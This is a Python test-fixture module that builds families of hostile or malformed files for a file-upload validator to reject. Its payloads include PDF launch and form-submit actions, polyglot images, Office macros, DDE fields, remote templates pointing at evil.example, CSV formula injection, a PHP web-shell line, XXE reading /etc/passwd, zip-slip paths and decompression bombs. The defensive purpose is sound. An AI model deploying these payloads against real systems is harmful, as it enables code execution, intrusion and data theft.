"""Files that must never be taken, made by code, by family: what they try stands in their name."""

import io
import json
import re
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from itertools import product
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from tests.evidence import good
from tests.evidence.good import File

EICAR_LIKE = b"MZ" + b"\0" * 200


def _changed(change: Callable[[pikepdf.Pdf], None], **more: Any) -> bytes:
    """A PDF that something was added to."""
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(good.pdf())) as pdf:
        change(pdf)
        pdf.save(out, **more)
    return out.getvalue()


def _opening(action: Dictionary) -> Callable[[pikepdf.Pdf], None]:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.Root.OpenAction = action

    return change


def _annotated(action: Dictionary) -> Callable[[pikepdf.Pdf], None]:
    def change(pdf: pikepdf.Pdf) -> None:
        note = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], A=action)
        pdf.pages[0].Annots = Array([pdf.make_indirect(note)])

    return change


def _hidden(action: Dictionary) -> Callable[[pikepdf.Pdf], None]:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.Root.Extra = Array([Array([Dictionary(Deep=Array([action]))])])

    return change


def _rooted(name: str, value: object) -> Callable[[pikepdf.Pdf], None]:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.Root[name] = value

    return change


def _attached(pdf: pikepdf.Pdf) -> None:
    pdf.attachments["invoice.exe"] = EICAR_LIKE


def acting_pdfs() -> Iterator[File]:
    """PDFs that do something by themselves."""
    script = String("app.alert(1)")
    actions = {
        "javascript": Dictionary(S=Name.JavaScript, JS=script),
        "a program": Dictionary(S=Name.Launch, F=String("cmd.exe")),
        "another file": Dictionary(S=Name.GoToR, F=String("//evil/x.pdf"), D=[0]),
        "an embedded file": Dictionary(S=Name.GoToE, D=[0]),
        "a form sent": Dictionary(S=Name.SubmitForm, F=String("http://evil.example/")),
        "data read": Dictionary(S=Name.ImportData, F=String("x.fdf")),
        "a film": Dictionary(S=Name.Rendition, OP=0),
        "a local link": Dictionary(S=Name.URI, URI=String("file:///etc/passwd")),
        "a script link": Dictionary(S=Name.URI, URI=String("javascript:alert(1)")),
    }
    ways = {"when opened": _opening, "when clicked": _annotated, "deep within": _hidden}
    for (what, action), (when, way) in product(actions.items(), ways.items()):
        yield f"pdf: {what} {when}", _changed(way(action))
    packed = pikepdf.ObjectStreamMode.generate
    yield (
        "pdf: a script in a packed object",
        _changed(_opening(actions["javascript"]), object_stream_mode=packed),
    )
    yield (
        "pdf: opens a web page by itself",
        _changed(_opening(Dictionary(S=Name.URI, URI=String("https://evil.example/")))),
    )


def holding_pdfs() -> Iterator[File]:
    """PDFs that hold what a page does not need, or hide it."""
    yield "pdf: an attachment", _changed(_attached)
    yield (
        "pdf: an attachment packed",
        _changed(_attached, object_stream_mode=pikepdf.ObjectStreamMode.generate),
    )
    names = {
        "/AA": Dictionary(WC=Dictionary(S=Name.JavaScript, JS=String("x"))),
        "/AcroForm": Dictionary(XFA=String("<xdp/>"), Fields=[]),
        "/Names": Dictionary(JavaScript=Dictionary(Names=[])),
        "/Collection": Dictionary(EF=Dictionary()),
    }
    for name, value in names.items():
        yield f"pdf: {name[1:]} at the root", _changed(_rooted(name, value))
    for kind in ("RichMedia", "Movie", "Sound", "3D", "Filespec"):
        note = Dictionary(Type=Name(f"/{kind}"), Subtype=Name(f"/{kind}"))
        yield f"pdf: {kind} among its objects", _changed(_rooted("/Odd", note))
    for owner, user in (("o", "u"), ("o", "")):
        locked = pikepdf.Encryption(owner=owner, user=user)
        yield f"pdf: locked {bool(user)}", _changed(lambda _: None, encryption=locked)
    plain = _changed(_opening(Dictionary(S=Name.JavaScript, JS=String("x"))), qdf=True)
    yield (
        "pdf: a script with its name written in hex",
        plain.replace(b"  /S /JavaScript", b" /S/J#61vaScript").replace(b"  /JS (x)", b"/J#53 (x)"),
    )


def broken_pdfs() -> Iterator[File]:
    """PDFs that are not whole, or more than a PDF."""
    whole = good.pdf()
    for part in (0.2, 0.5, 0.9):
        yield f"pdf: cut at {part}", whole[: int(len(whole) * part)]
    yield "pdf: nothing but a header", b"%PDF-1.7\n%%EOF\n"
    yield "pdf: without its table", re.sub(rb"xref.*", b"xref\n%%EOF\n", whole, flags=re.DOTALL)
    yield "pdf: with a program behind", whole + EICAR_LIKE
    yield "pdf: with an archive behind", whole + good.workbook()
    yield "pdf: with an archive behind and an end", whole + good.workbook() + b"\n%%EOF\n"
    yield "pdf: with a page of HTML behind", whole + b"<html><script>x</script></html>"
    yield "pdf: behind a page of HTML", b"<html>" + whole
    yield "pdf: behind spaces", b" " * 200 + whole
    yield "pdf: behind a picture", good.picture()[:-2] + whole
    own = re.findall(rb"(\d) 0 obj", whole[: whole.index(b"/Kids")])[-1]
    looped = re.sub(rb"/Kids \[ \d 0 R", b"/Kids [ " + own + b" 0 R", whole)
    yield "pdf: its pages point to themselves", looped


def _segment(marker: int, body: bytes) -> bytes:
    return bytes([0xFF, marker]) + (len(body) + 2).to_bytes(2, "big") + body


def bad_jpegs() -> Iterator[File]:
    """Photos that are not whole, or more than a photo."""
    whole = good.picture()
    behind = {
        "an archive": good.workbook(),
        "a PDF": good.pdf(),
        "a program": EICAR_LIKE,
        "a script": b"<script>alert(1)</script>",
        "a film": good.film(),
        "one byte": b"x",
        "another picture nobody told of": good.picture(),
    }
    for name, more in behind.items():
        yield f"jpeg: {name} behind", whole + more
    yield "jpeg: an archive behind several", good.several() + good.workbook()
    for name, text in {
        "a PDF": good.pdf()[:900],
        "a script": b"<script>alert(1)</script>",
        "PHP": b"<?php system($_GET[0]);",
        "a page": b"<HTML><body onload=x>",
    }.items():
        yield f"jpeg: {name} in a comment", whole[:2] + _segment(0xFE, text) + whole[2:]
    for part in (3, 50, len(whole) // 2, len(whole) - 2):
        yield f"jpeg: cut at {part}", whole[:part]
    yield "jpeg: its mark alone", b"\xff\xd8\xff\xe0" + b"x" * 500
    at = whole.index(b"\xff\xc0")
    yield "jpeg: enormous", whole[: at + 5] + b"\xff\xff\xff\xff" + whole[at + 9 :]
    yield "jpeg: without a size", whole[: at + 5] + b"\0\0\0\0" + whole[at + 9 :]
    yield "jpeg: a segment too long", whole[:4] + b"\xff\xff" + whole[6:]
    yield "jpeg: a segment without a length", whole[:4] + b"\0\0" + whole[6:]
    yield "jpeg: empty", b"\xff\xd8\xff\xd9"


def _chunk(name: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))


def _png(*chunks: bytes, width: int = 4, height: int = 4) -> bytes:
    head = _chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + b"".join(chunks)


def bad_pngs() -> Iterator[File]:
    """PNGs that are not whole, or more than a picture."""
    whole = good.picture("PNG")
    end = _chunk(b"IEND", b"")
    rows = _chunk(b"IDAT", zlib.compress(b"\0" * 20))
    for name, more in {"an archive": good.workbook(), "a PDF": good.pdf(), "a byte": b"\0"}.items():
        yield f"png: {name} behind", whole + more
    yield (
        "png: an archive in a chunk at its end",
        whole[:-12] + _chunk(b"zzZz", good.workbook()) + end,
    )
    yield "png: a PDF in a chunk", whole[:33] + _chunk(b"abCd", good.pdf()[:900]) + whole[33:]
    yield "png: a wrong check sum", whole[:-14] + b"\0\0" + whole[-12:]
    yield "png: cut", whole[: len(whole) // 2]
    yield "png: its mark alone", whole[:8]
    yield "png: a bomb", _png(_chunk(b"IDAT", zlib.compress(b"\0" * 50_000_000)), end)
    yield "png: enormous", _png(rows, end, width=2**30, height=2**30)
    yield "png: no rows", _png(end)
    yield "png: too few rows", _png(rows, end, height=900)
    yield "png: without a size", _png(rows, end, width=0)
    yield "png: no picture data", _png(_chunk(b"IDAT", b"nothing packed"), end)
    yield (
        "png: more in its picture data",
        _png(_chunk(b"IDAT", zlib.compress(b"\0" * 20) + b"MZ"), end),
    )
    yield "png: an unknown chunk that matters", _png(_chunk(b"EVIL", b"x"), rows, end)
    yield "png: a script in a remark", _png(_chunk(b"tEXt", b"a\0<script>x</script>"), rows, end)
    packed = zlib.compress(b"<?php evil();")
    yield "png: a script in a packed remark", _png(_chunk(b"zTXt", b"a\0\0" + packed), rows, end)
    bomb = zlib.compress(b"a" * 20_000_000)
    yield "png: a bomb in a remark", _png(_chunk(b"zTXt", b"a\0\0" + bomb), rows, end)
    long = _chunk(b"iTXt", b"a\0\1\0\0\0" + packed)
    yield "png: a script in a remark of letters", _png(long, rows, end)


def bad_boxes() -> Iterator[File]:
    """Films and pictures of boxes that are not whole, of other types, or more than that."""
    film, still = good.film(), good.heic(good.exif())
    for name, whole in {"film": film, "heic": still}.items():
        yield f"{name}: cut", whole[:-40]
        yield f"{name}: an archive behind", whole + good.workbook()
        yield f"{name}: a PDF behind", whole + good.pdf()
        yield (
            f"{name}: a PDF in a box in front",
            whole[:24] + good.box(b"free", good.pdf()[:900]) + whole[24:],
        )
        yield f"{name}: an archive in a box at its end", whole + good.box(b"free", good.workbook())
        yield f"{name}: a program in an unknown box", whole + good.box(b"evil", EICAR_LIKE)
        yield f"{name}: much that means nothing", whole + good.box(b"free", b"\0" * 2_000_000)
        yield f"{name}: its first box alone", whole[: int.from_bytes(whole[:4], "big")]
        yield f"{name}: two first boxes", whole[: int.from_bytes(whole[:4], "big")] * 2 + whole[24:]
        yield f"{name}: a box without a size", whole + b"\0\0\0\1mdat"
        yield f"{name}: of an unknown brand", whole[:8] + b"evil" + whole[12:]
        yield f"{name}: of QuickTime", whole[:8] + b"qt  " + whole[12:]
    yield "film: of nothing", good.film(handler=b"text")
    deep = b""
    for _ in range(40):
        deep = good.box(b"trak", deep)
    yield "film: nested deeply", film[:24] + good.box(b"moov", deep) + good.box(b"mdat", b"x")
    yield "heic: of another item", good.heic(item=b"uri ")
    yield "heic: of AVIF", good.heic(brand=b"avif", item=b"av01")
    outside = still.replace(b"\0\0\0\1\0\0", b"\0\0\0\1\xff\xff", 1)
    yield "heic: without its places", still.replace(b"iloc", b"free")
    yield "heic: without its items", still.replace(b"iinf", b"free")
    yield "heic: no picture", still.replace(b"pict", b"vide")
    at = outside.index(b"iloc") + 18
    yield "heic: points outside", still[:at] + b"\x7f\xff\xff\xff" + still[at + 4 :]


def _document(change: Callable[[dict[str, bytes]], object]) -> bytes:
    parts = good.document_parts()
    change(parts)
    return good.packed(parts)


def _related(type: str, target: str, mode: str = "External") -> bytes:
    relation = (
        f'<Relationship Id="e" Type="{good.OFFICE}/{type}" Target="{target}" TargetMode="{mode}"/>'
    )
    text = f'<Relationships xmlns="{good.RELATIONS}">{relation}</Relationships>'
    return good.document(word___rels__document_dot_xml_dot_rels=text.encode())


def acting_offices() -> Iterator[File]:
    """Office files with macros, embedded files, or parts that stand elsewhere."""
    for name in (
        "word/vbaProject.bin",
        "word/vbaData.xml",
        "word/activeX/activeX1.xml",
        "word/embeddings/oleObject1.bin",
        "word/embeddings/book.xlsx",
        "xl/externalLinks/externalLink1.xml",
        "xl/macrosheets/sheet1.xml",
        "xl/connections.xml",
        "customUI/customUI.xml",
        "word/webextensions/webextension1.xml",
        "word/run.exe",
        "word/page.html",
        "word/script.js",
        "word/picture.svg",
        "word/data.bin",
        "word/media/image1.emf",
    ):
        yield f"docx: {name}", good.packed(good.document_parts() | {name: b"<a/>"})
        if name.startswith("xl/"):
            yield f"xlsx: {name}", _with(good.workbook(), {name: b"<a/>"})
    yield "docx: a picture that is a program", good.document(word__media__a_dot_png=EICAR_LIKE)
    yield (
        "docx: a picture with an archive behind",
        good.document(word__media__a_dot_jpeg=good.picture() + good.packed({"a": b"b"})),
    )
    for type, target in (
        ("attachedTemplate", "https://evil.example/t.dotm"),
        ("image", "https://evil.example/pixel.png"),
        ("oleObject", "https://evil.example/x"),
        ("frame", "https://evil.example/x"),
        ("subDocument", "https://evil.example/x.docx"),
        ("externalLink", "file:///c:/x.xlsx"),
        ("hyperlink", "file:////evil/share/x.exe"),
        ("hyperlink", "\\\\evil\\share"),
        ("hyperlink", "javascript:alert(1)"),
        ("hyperlink", "ms-msdt:/id"),
    ):
        yield f"docx: {type} at {target[:12]}", _related(type, target)
    yield (
        "docx: a picture that says it is within",
        _related("image", "https://evil.example/", "Internal"),
    )
    for text in (
        "DDEAUTO c:\\\\windows\\\\cmd.exe",
        "DDE x y",
        "INCLUDEPICTURE http://evil.example/",
    ):
        field = f'<w:document xmlns:w="{good.WORD}"><w:instrText>{text}</w:instrText></w:document>'
        yield (
            f"docx: the field {text[:8]}",
            good.packed(good.document_parts() | {"word/document.xml": field.encode()}),
        )
    for tag in ("altChunk", "object><w:OLEObject/></w:object"):
        body = f'<w:document xmlns:w="{good.WORD}"><w:{tag}/></w:document>'.replace(
            "object/>", "object>"
        )
        yield (
            f"docx: {tag[:8]}",
            good.packed(good.document_parts() | {"word/document.xml": body.encode()}),
        )
    types = good.document_parts()["[Content_Types].xml"]
    macro = types.replace(
        good.MAIN.encode(), b"application/vnd.ms-word.document.macroEnabled.main+xml"
    )
    yield (
        "docx: says it has macros",
        good.packed(good.document_parts() | {"[Content_Types].xml": macro}),
    )
    sheet = "xl/worksheets/sheet1.xml"
    for formula in ('WEBSERVICE("http://evil.example/")', "CALL(1)", "cmd|'/c calc'!A0", "EXEC(1)"):
        yield (
            f"xlsx: {formula[:8]}",
            _with(
                good.workbook(),
                {
                    sheet: f"<worksheet><sheetData><c><f>{formula}</f></c></sheetData></worksheet>".encode()
                },
            ),
        )


def _with(archive: bytes, parts: dict[str, bytes]) -> bytes:
    """An archive with parts added or put in the place of others."""
    with zipfile.ZipFile(io.BytesIO(archive)) as opened:
        found = {name: opened.read(name) for name in opened.namelist()}
    return good.packed(found | parts)


ENTITIES = (
    b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "'
    + b"x" * 50
    + b'">'
    + b"".join(f'<!ENTITY b{n} "{"&b;" * 9}">'.encode() for n in range(9))
    + b"]><a>&b8;</a>"
)
OUTSIDE = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'


def bad_archives() -> Iterator[File]:
    """Archives that are bombs or traps, or no office file."""
    yield "zip: of no office", good.packed({"a.txt": b"hello"})
    yield "zip: empty", b"PK\x05\x06" + b"\0" * 18
    yield (
        "zip: a bomb in one part",
        _document(lambda p: p.update({"word/a.xml": b"<a>" + b" " * 190 * 2**20})),
    )
    bombs = {f"word/a{n}.xml": b"<a>" + b" " * 30_000_000 for n in range(8)}
    yield "zip: a bomb in several parts", _document(lambda p: p.update(bombs))
    many = {f"word/a{n}.xml": b"<a/>" for n in range(2_500)}
    yield "zip: very many parts", _document(lambda p: p.update(many))
    yield (
        "zip: an archive within",
        _document(lambda p: p.update({"word/a.xml": good.packed({"a": b"b"})})),
    )
    for name in (
        "../evil.xml",
        "/etc/evil.xml",
        "word\\evil.xml",
        "c:evil.xml",
        "a/" * 20 + "b.xml",
        "word//a.xml",
    ):
        whole = good.packed(good.document_parts() | {"word/" + "e" * len(name): b"<a/>"})
        old = ("word/" + "e" * len(name)).encode()
        new = (
            (name + "x" * len(old))[: len(old)]
            if len(name) > len(old)
            else name.ljust(len(old), "x")
        )
        yield f"zip: the name {name[:14]}", whole.replace(old, new.encode())
    twice = good.packed(good.document_parts() | {"word/documenX.xml": b"<a/>"})
    yield "zip: one name twice", twice.replace(b"word/documenX.xml", b"word/document.xml")
    yield (
        "zip: one name twice in other letters",
        twice.replace(b"word/documenX.xml", b"word/DOCUMENT.xml"),
    )
    whole = good.document()
    yield "zip: something in front", EICAR_LIKE[2:] + whole
    yield "zip: something behind", whole + b"x"
    yield "zip: a remark", whole[:-2] + b"\x05\0hello"
    yield "zip: a picture in front", good.picture() + whole
    yield "zip: cut", whole[:-60]
    yield (
        "zip: locked",
        whole.replace(b"PK\x01\x02\x14\x03\x14\0\0\0", b"PK\x01\x02\x14\x03\x14\0\x01\0"),
    )
    yield "zip: two names for a part", whole.replace(b"word/document.xml", b"word/dXcument.xml", 1)
    yield "zip: a wrong check sum", _flipped(whole)
    yield "zip: a link", _linked()
    yield "zip: hidden between its parts", _gapped(whole)
    yield "zip: entities declared", _document(lambda p: p.update({"word/a.xml": ENTITIES}))
    yield (
        "zip: entities from outside",
        _document(lambda p: p.update({"word/document.xml": OUTSIDE})),
    )
    yield "zip: a part that is no XML", _document(lambda p: p.update({"word/document.xml": b"<a>"}))
    yield "zip: without its list of types", _document(lambda p: p.pop("[Content_Types].xml"))
    yield "zip: without its main part", _document(lambda p: p.pop("word/document.xml"))
    yield "zip: packed in another way", good.packed(good.document_parts(), zipfile.ZIP_LZMA)


def _flipped(whole: bytes) -> bytes:
    """The first part's data with a byte changed."""
    at = 30 + int.from_bytes(whole[26:28], "little") + 20
    return whole[:at] + bytes([whole[at] ^ 0xFF]) + whole[at + 1 :]


def _linked() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, body in good.document_parts().items():
            archive.writestr(name, body)
        link = zipfile.ZipInfo("word/link.xml")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return out.getvalue()


def _gapped(whole: bytes) -> bytes:
    """The directory moved back, with something before it."""
    end = whole.rindex(b"PK\x05\x06")
    start = int.from_bytes(whole[end + 16 : end + 20], "little")
    hidden = EICAR_LIKE
    moved = (start + len(hidden)).to_bytes(4, "little")
    return whole[:start] + hidden + whole[start : end + 16] + moved + whole[end + 20 :]


def bad_xml() -> Iterator[File]:
    """XML that fetches, swells or acts."""
    yield "xml: entities that swell", ENTITIES
    yield "xml: an entity from outside", OUTSIDE
    yield (
        "xml: a parameter entity",
        b'<!DOCTYPE a [<!ENTITY % b SYSTEM "http://evil.example/"> %b;]><a/>',
    )
    yield "xml: a document type", b'<!DOCTYPE a SYSTEM "http://evil.example/a.dtd"><a/>'
    yield (
        "xml: a document type in UTF-16",
        OUTSIDE.decode().replace('"1.0"', '"1.0" encoding="UTF-16"').encode("utf-16"),
    )
    yield "xml: SVG", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
    yield "xml: SVG that looks plain", b'<svg xmlns="http://www.w3.org/2000/svg"><rect/></svg>'
    yield "xml: SVG under a name", b'<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:rect/></s:svg>'
    yield "xml: XHTML", b'<html xmlns="http://www.w3.org/1999/xhtml"><body/></html>'
    yield (
        "xml: a script within",
        b'<a><h:script xmlns:h="http://www.w3.org/1999/xhtml">x</h:script></a>',
    )
    yield "xml: a script that is called", b'<a onclick="x()"/>'
    yield (
        "xml: a style sheet",
        b'<?xml version="1.0"?><?xml-stylesheet href="http://evil.example/"?><a/>',
    )
    yield (
        "xml: XSLT",
        b'<x:stylesheet xmlns:x="http://www.w3.org/1999/XSL/Transform" version="1.0"/>',
    )
    yield (
        "xml: XInclude",
        b'<a xmlns:x="http://www.w3.org/2001/XInclude"><x:include href="/etc/passwd"/></a>',
    )
    yield "xml: cut", b"<a><b>"
    yield "xml: two roots", b"<a/><b/>"
    yield "xml: nested deeply", b"<a>" * 5_000 + b"</a>" * 5_000
    yield "xml: an unknown coding", b'<?xml version="1.0" encoding="x-evil"?><a/>'
    yield "xml: a page", b"<!doctype html><html><script>x</script></html>"


def bad_tables() -> Iterator[File]:
    """Tables that compute, and text that is no table."""
    for cell in (
        "=1+1",
        "=cmd|' /C calc'!A0",
        "@SUM(1)",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        '"=HYPERLINK(""http://evil.example"")"',
        "\t=1+1",
        " =1+1",
        "\uff1d1+1",
        "'=1+1",
        "+A1",
        "-A1*2",
    ):
        yield f"csv: the cell {cell[:9]!r}", f"serial,note\nFR-1,{cell}\n".encode()
    yield "csv: rows of unlike width", b"a,b\n1\n"
    yield "csv: an open quote", b'a,b\n1,"2\n'
    yield "csv: of one column", b"hello\nworld\n"
    yield "csv: HTML", b"<html>,<body>\n"
    yield "csv: a script in a cell", b"a,b\n1,<script>x</script>\n"
    yield "csv: text that reads otherwise", "a,b\n1,\u202etxt.exe\n".encode()
    yield "csv: a shell script", b"#!/bin/sh,\nrm -rf /,\n"
    yield "csv: bytes that are no text", b"a,b\n\xff\xfe\xfd,\x80\n"
    yield "csv: a zero byte", b"a,b\n1,\x002\n"
    yield "csv: a PDF in a cell", b"a,b\n1,%PDF-1.7\n"
    yield "csv: an archive behind", b"a,b\n1,2\n" + good.workbook()


def bad_json() -> Iterator[File]:
    """JSON that is none, and what is bad for its readers."""
    yield "json: cut", b'{"a": 1'
    yield "json: something behind", b'{"a": 1} x'
    yield "json: NaN", b'{"a": NaN}'
    yield "json: endless", b'{"a": Infinity}'
    yield "json: a name twice", b'{"a": 1, "a": 2}'
    yield "json: nested deeply", b"[" * 200 + b"]" * 200
    yield "json: nested bottomlessly", b"[" * 200_000
    yield "json: a very long number", b"[" + b"9" * 50_000 + b"]"
    yield "json: single quotes", b"{'a': 1}"
    yield "json: a comma too many", b"[1,]"
    yield "json: a script", json.dumps({"a": "<script>alert(1)</script>"}).encode()
    yield "json: an archive behind", b"[1]" + good.workbook()


def other_types() -> Iterator[File]:
    """Files of types that are not taken, whatever they are called."""
    for name, start in {
        "program of Windows": b"MZ\x90\0",
        "program of Linux": b"\x7fELF\2\1\1",
        "program of macOS": b"\xcf\xfa\xed\xfe",
        "class of Java": b"\xca\xfe\xba\xbe",
        "old office file": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
        "gzip": b"\x1f\x8b\x08\0",
        "7z": b"7z\xbc\xaf\x27\x1c",
        "rar": b"Rar!\x1a\x07\0",
        "bitmap": b"BM\x36\0\0\0",
        "gif": b"GIF89a\1\0\1\0",
        "tiff": b"II*\0\x08\0\0\0",
        "webp": b"RIFF\0\1\0\0WEBPVP8 ",
        "mp3": b"ID3\3\0\0\0",
        "ogg": b"OggS\0\2",
        "matroska": b"\x1a\x45\xdf\xa3",
        "font": b"\0\1\0\0\0\x0f",
        "wasm": b"\0asm\1\0\0\0",
        "shortcut": b"L\0\0\0\1\x14\2\0",
        "PostScript": b"%!PS-Adobe-3.0\n(x) run\n",
        "rich text": b"{\\rtf1\\ansi hello}",
        "disk image": b"\0" * 32_769 + b"CD001",
        "random": bytes((n * 131 + n // 7) % 256 for n in range(3_000)),
        "zeros": b"\0" * 1_000,
        "one byte": b"x",
        "a sentence": b"The goods were delivered on Monday.",
    }.items():
        yield f"other: {name}", start if len(start) > 20 else start + b"\0\1\2\3" * 50
    yield "other: a sentence and no more", b"Delivered."


FAMILIES: dict[str, Callable[[], Iterator[File]]] = {
    "acting PDFs": acting_pdfs,
    "PDFs that hold more": holding_pdfs,
    "broken PDFs": broken_pdfs,
    "JPEG": bad_jpegs,
    "PNG": bad_pngs,
    "films and HEIC": bad_boxes,
    "acting office files": acting_offices,
    "archives": bad_archives,
    "XML": bad_xml,
    "CSV": bad_tables,
    "JSON": bad_json,
    "other types": other_types,
}
